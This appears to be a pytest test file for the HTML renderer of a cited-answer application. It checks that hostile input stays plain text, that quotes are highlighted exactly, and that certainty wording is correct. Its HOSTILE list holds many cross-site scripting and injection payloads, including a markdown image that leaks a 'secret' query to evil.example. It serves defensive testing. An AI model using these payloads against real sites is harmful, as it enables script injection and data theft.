"""Whatever stands in a question, an article or an address is shown as text: nothing of it becomes markup."""

from __future__ import annotations

import json
from datetime import date

import pytest
from lxml import html

from assistant.extractive import NO_ANSWER
from assistant.models import Answer, Citation, Conflict, Outcome, Sentence, Side
from corpus.adding import AddReport, Merged
from corpus.models import Article, Kind, Launch, Skipped
from ui.exchange import Exchange, State
from ui.render import conversation, source_cards
from ui.render_articles import kept_report, preview, removed_note, shelf
from ui.render_library import article_page
from ui.wording import certainty, copy_text

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x>",
    "<embed src=data:text/html,x>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=https://evil.example><input name=a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp></xmp><img src=x onerror=alert(1)>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x onclick=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<div",
    "</div></div></div></main>",
    "<b>unclosed",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "{% raw %}",
    "#{7*7}",
    "[click](javascript:alert(1))",
    "![leak](https://evil.example/?q=secret)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "<https://evil.example>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\unicode{x3c}script\\unicode{x3e}\\)",
    "\u202eevil\u202c",
    "\u2066hidden\u2069",
    "a\u200bb\u200cc\u200dd\ufeff",
    "\x00\x08\x0b null and control",
    "expression(alert(1)); background:url(javascript:alert(1))",
    "x" * 1_000_000,
    "javascript:alert(1)",
]
SAFE_TAGS = set(
    "div section article header footer main aside nav p span ol ul li dl dt dd h1 h2 h3 h4 button a mark blockquote cite "
    "time small strong em b i svg path circle table thead tbody tr th td caption details summary label input br hr figure "
    "figcaption output dialog q bdi sup".split()
)


def citation(**changed: object) -> Citation:
    fields: dict[str, object] = {
        "marker": 1, "article_id": "a", "title": "A title", "publisher": "The Daily", "url": "https://example.org/a",
        "published": date(2026, 4, 8), "quote": "It costs 12 euros.", "start": 0, "end": 18, "digest": "d",
        "kind": "reporting",
    }  # fmt: skip
    return Citation(**(fields | changed))  # type: ignore[arg-type]


def an_answer(citations: list[Citation], **changed: object) -> Answer:
    sentences = tuple(Sentence(f"“{c.quote}” [{c.marker}]", (c.marker,), 1.0) for c in citations)
    fields: dict[str, object] = {
        "question": "What does it cost?", "standalone_question": "What does it cost?",
        "text": " ".join(s.text for s in sentences), "outcome": Outcome.ANSWERED, "confidence": 0.9,
        "sentences": sentences, "citations": tuple(citations), "conflicts": (), "as_of": None, "hits": (),
        "model": "quotes", "generation": 1, "timings": {}, "notes": (), "witnesses": 1,
    }  # fmt: skip
    return Answer(**(fields | changed))  # type: ignore[arg-type]


def shown(answer: Answer, question: str = "What does it cost?") -> str:
    exchange = Exchange(question).answered(answer)
    return "".join(conversation([exchange], Launch("The Thing")))


def check_harmless(markup: str) -> None:
    tree = html.fragment_fromstring(markup, create_parent="div")
    for element in tree.iter():
        assert isinstance(element.tag, str), "a comment or an instruction"
        assert element.tag in SAFE_TAGS, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), name
            assert name not in ("style", "srcdoc", "formaction", "action"), name
            if name in ("href", "src"):
                assert value.startswith(("https://", "http://")), value


@pytest.mark.parametrize("text", HOSTILE, ids=lambda t: t[:24])
def test_hostile_text_stays_text(text: str) -> None:
    hostile = citation(title=text, publisher=text, quote=text, url=text, end=len(text))
    differing = Conflict(text, (Side(text, (1,)), Side("other", (2,))))
    markup = shown(an_answer([hostile, citation(marker=2)], conflicts=(differing,), notes=(text,)), text)
    check_harmless(markup)
    article = Article("a", text, text, None, None, None, Kind.REPORTING, f"{text}\n\nIt costs 12 euros.")
    check_harmless(article_page(article, [(1, 0, len(text))], focus=1))
    listed = shelf([article], {"a": 1}, added={"a": date(2026, 1, 2)}, cited={"a": 3}, removable=True)
    check_harmless(listed)
    assert 'data-unit="answers">3<' in listed
    check_harmless(preview([article], [Skipped(text, text)], cut=True))
    check_harmless(removed_note(text, text))
    check_harmless(
        kept_report(AddReport((text,), (), (Merged(text, text, text, 0.9),), (), (Skipped(text, text),)))
    )
    failed = Exchange(text, state=State.FAILED, problem=text)
    check_harmless("".join(conversation([failed], Launch(text, tagline=text, example_questions=(text,)))))


def test_the_reader_marks_exactly_the_quote() -> None:
    text = "Prices first.\n\nIt costs 12 euros. It weighs 3 kilograms.\n\nAll sold."
    start = text.index("It costs")
    article = Article("a", "T", "P", None, None, None, Kind.REPORTING, text)
    tree = html.fragment_fromstring(
        article_page(article, [(4, start, start + 18)], focus=4), create_parent="div"
    )
    (mark,) = tree.xpath("//mark")
    assert mark.text == text[start : start + 18]
    assert mark.text_content() == "It costs 12 euros.4"
    assert "It weighs 3 kilograms." in tree.text_content()


@pytest.mark.parametrize("focus", [1, 2, 3])
def test_quotes_that_touch_or_overlap_are_marked_to_the_letter(focus: int) -> None:
    text = "Ünïcode 🚀 first. <b>Second</b> & third.\n\nFourth, שלום, fifth."
    quotes = [(1, 8, 32), (2, 16, 40), (3, 43, len(text)), (4, 5, len(text) + 1), (5, 9, 9), (6, -3, 4)]
    article = Article("a", "T", "P", None, None, None, Kind.REPORTING, text)
    tree = html.fragment_fromstring(article_page(article, quotes, focus=focus), create_parent="div")
    numbers = [sup.text for sup in tree.xpath("//mark/sup")]
    for sup in tree.xpath("//mark/sup"):
        sup.drop_tree()
    (body,) = tree.xpath('//div[@class="body"]')
    assert body.text_content() == text
    _, start, end = quotes[focus - 1]
    assert "".join(m.text_content() for m in tree.xpath('//mark[@class="is-focus"]')) == text[start:end]
    assert len(tree.xpath('//*[@id="quote"]')) == 1
    # What lies outside the text is no quote of it.
    assert sorted(numbers) == ["1", "2", "3"]


def test_a_card_and_the_article_name_who_else_carries_the_report() -> None:
    also = ("Courier", "<script>\u202eevil</script>")
    card = source_cards(an_answer([citation(also_published_by=also)]), 1)
    said = "Also carried by <bdi>Courier</bdi>, <bdi>&lt;script&gt;[U+202E]evil&lt;/script&gt;</bdi></p>"
    assert said in card
    assert "carried" not in source_cards(an_answer([citation()]), 1)
    article = Article(
        "a", "A", "The Daily", None, None, None, Kind.REPORTING, "Text.", also_published_by=also
    )
    assert said in article_page(article)
    assert "also carried by Courier" in copy_text(an_answer([citation(also_published_by=("Courier",))]))


def test_every_marker_has_its_card() -> None:
    answer = an_answer([citation(), citation(marker=2, article_id="b", title="B", digest="e")])
    tree = html.fragment_fromstring(shown(answer), create_parent="div")
    markers = {m.get("data-marker") for m in tree.xpath('//*[contains(@class,"text")]//button[@data-marker]')}
    cards = {m for card in tree.xpath("//*[@data-markers]") for m in card.get("data-markers").split()}
    assert markers == cards == {"1", "2"}


def test_a_written_sentence_is_not_taken_for_the_remark_under_the_answer() -> None:
    written = an_answer([citation()], sentences=(Sentence("It is 12 euros. [1]", (1,), 1.0),))
    tree = html.fragment_fromstring(shown(written), create_parent="div")
    (remark,) = tree.xpath('//*[contains(concat(" ", @class, " "), " said ")]')
    assert remark.get("role") == "status"
    assert tree.xpath('string(//p[@class="told"]/@data-markers)') == "1"


def test_controls_that_turn_letters_are_seen_in_names() -> None:
    turned = citation(title="\u202egnp.exe", publisher="\u2067Daily")
    tree = html.fragment_fromstring(shown(an_answer([turned])), create_parent="div")
    assert tree.xpath("string(//h4)") == "[U+202E]gnp.exe"
    assert tree.xpath('string(//bdi[@class="publisher"])') == "[U+2067]Daily"


def test_copying_keeps_markers_and_sources() -> None:
    copied = copy_text(an_answer([citation()]))
    assert "“It costs 12 euros.” [1]" in copied
    assert "The Daily" in copied
    assert "https://example.org/a" in copied


def test_silence_is_shown_as_silence() -> None:
    silent = an_answer(
        [],
        outcome=Outcome.NO_EVIDENCE,
        text=NO_ANSWER,
        sentences=(Sentence(NO_ANSWER, (), 1.0),),
        witnesses=0,
    )
    tree = html.fragment_fromstring(shown(silent), create_parent="div")
    assert NO_ANSWER in tree.text_content()
    assert not tree.xpath("//*[@data-markers]")


def test_what_comes_nearest_is_not_called_a_source() -> None:
    tree = html.fragment_fromstring(
        shown(an_answer([citation()], outcome=Outcome.NO_EVIDENCE)), create_parent="div"
    )
    assert tree.xpath("string(//aside/h3)") == "Nearest"
    assert tree.xpath('string(//p[contains(@class, "status")])') == "Not in the sources"


def test_both_sides_of_a_difference_lead_to_their_quotes() -> None:
    cited = [citation(), citation(marker=2, article_id="b", digest="e", quote="It costs 15 euros.")]
    differ = Conflict("the price", (Side("15 euros", (2,)), Side("12 euros", (1,))))
    tree = html.fragment_fromstring(shown(an_answer(cited, conflicts=(differ,))), create_parent="div")
    rows = tree.xpath('//div[@class="conflict"]//li')
    told = [(r.xpath("string(bdi)"), r.xpath("string(.//button/@data-marker)")) for r in rows]
    assert told == [("15 euros", "2"), ("12 euros", "1")]
    assert "is-differ" in tree.xpath('string(//p[contains(@class, "status")]/@class)')


def test_a_number_in_brackets_inside_a_quote_is_the_articles_own() -> None:
    tree = html.fragment_fromstring(
        shown(an_answer([citation(quote="As said [1] before [7].")])), create_parent="div"
    )
    assert tree.xpath('string(//p[@class="quote"]/q)') == "As said [1] before [7]."
    assert tree.xpath('//div[@class="text"]//button/@data-marker') == ["1"]


@pytest.mark.parametrize(
    ("changed", "words"),
    [
        ({}, "One report, 8 April 2026"),
        ({"outcome": Outcome.PARTIAL}, "In part: one report, 8 April 2026"),
        ({"outcome": Outcome.NO_EVIDENCE}, "Not in the sources"),
        ({"conflicts": (Conflict("x", (Side("1", (1,)), Side("2", (1,)))),)}, "Reports differ"),
    ],
)
def test_each_kind_of_answer_has_its_words(changed: dict[str, object], words: str) -> None:
    assert certainty(an_answer([citation()], **changed)) == words


def test_only_the_company_says_so() -> None:
    assert certainty(an_answer([citation(kind=Kind.STATEMENT.value, published=None)])) == (
        "One company statement, undated"
    )


def test_certainty_is_told_in_words() -> None:
    price = "It costs 12 euros."
    other = citation(marker=2, article_id="b", publisher="B", digest="e", quote="The price is 12 euros.")
    weight = citation(marker=2, article_id="b", digest="e", quote="Its weight stayed a secret all summer.")
    one, two, apart = [citation(quote=price)], [citation(quote=price), other], [citation(), weight]
    same_article = [citation(), citation(marker=2, start=30, end=40, quote="It weighs 3 kilograms.")]

    def words(cited: list[Citation], *, more: int = 0, **changed: object) -> str:
        agreeing = tuple(citation(marker=n, article_id=f"m{n}", quote=price) for n in range(7, 7 + more))
        asked = {"standalone_question": "How much does it cost?", "agreeing": agreeing}
        return certainty(an_answer(cited, witnesses=len(cited), **asked | changed))

    assert words(one) == "One report, 8 April 2026"
    assert words(one, more=1) == "One report, 8 April 2026; one more source agrees"
    assert words(one, more=3) == "One report, 8 April 2026; three more sources agree"
    assert words(two) == "Two reports agree"
    again = [citation(quote=price), citation(marker=2, article_id="b", digest="e", quote=price)]
    assert words(again) == "Two reports"
    assert words(two, more=1) == "Two reports agree, and one more source agrees with them"
    assert words(two, standalone_question="Why is it liked?") == "Two reports"
    assert words(apart) == "Two reports"
    assert words(same_article) == "One report, 8 April 2026"
    assert words(one, outcome=Outcome.PARTIAL) == "In part: one report, 8 April 2026"
    assert words(two, outcome=Outcome.PARTIAL) == "In part: two reports agree"


def test_further_reports_that_agree_are_listed_and_can_be_opened() -> None:
    hostile = "<img src=x onerror=hit()>"
    more = citation(
        marker=2, article_id="b", publisher=hostile, digest="e", quote=f"Price: 12 euros {hostile}"
    )
    tree = html.fragment_fromstring(shown(an_answer([citation()], agreeing=(more,))), create_parent="div")
    (listed,) = tree.xpath('//details[@class="agreeing"]')
    assert listed.xpath("string(summary)") == "One more source agrees"
    assert listed.xpath("string(.//bdi[@class='publisher'])") == hostile
    assert listed.xpath("string(.//q)") == f"Price: 12 euros {hostile}"
    assert listed.xpath("string(.//button/@data-marker)") == "2"
    spans = json.loads(tree.xpath("string(//article/@data-quotes)"))
    assert [span[:2] for span in spans] == [[1, "a"], [2, "b"]]
    assert not tree.xpath("//img")
    assert "agreeing" not in shown(an_answer([citation()]))


def test_copies_of_one_report_do_not_become_two_when_their_text_is_gone() -> None:
    copies = [citation(), citation(marker=2, article_id="b", publisher="B", digest="e")]
    assert certainty(an_answer(copies, witnesses=1)) == "One report in 2 articles"
